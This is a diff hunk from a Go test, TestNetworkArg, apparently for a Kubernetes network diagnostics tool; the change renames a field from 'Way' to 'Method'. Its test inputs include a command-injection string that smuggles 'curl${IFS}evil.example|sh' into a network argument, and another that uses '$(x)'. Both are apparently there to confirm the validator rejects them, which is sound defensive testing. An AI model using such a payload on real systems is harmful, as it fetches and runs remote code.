@@ -17,7 +17,7 @@ func TestNetworkArg(t *testing.T) {
 		"local ::1%;curl${IFS}evil.example|sh;# x": "", "local": "", " ": "", "local fe80::1%eth0": "", "local $(x)": "",
 	} {
 		f := diagnose.Findings{Node: "worker-3"}
-		f.Add(probe.Event{Type: probe.EventResult, Node: "worker-3", Way: "pod", Result: &probe.Result{
+		f.Add(probe.Event{Type: probe.EventResult, Node: "worker-3", Method: "pod", Result: &probe.Result{
 			Check: service.ServiceDestination.ID, Target: "default/kubernetes 10.96.0.1:443 tcp", Status: probe.Fail,
 			Facts: probe.Facts{service.FactService: "10.96.0.1:443", service.FactSentTo: "10.96.0.1:443",
 				probe.FactRule: route, service.FactMeans: service.MeansRoute}}})
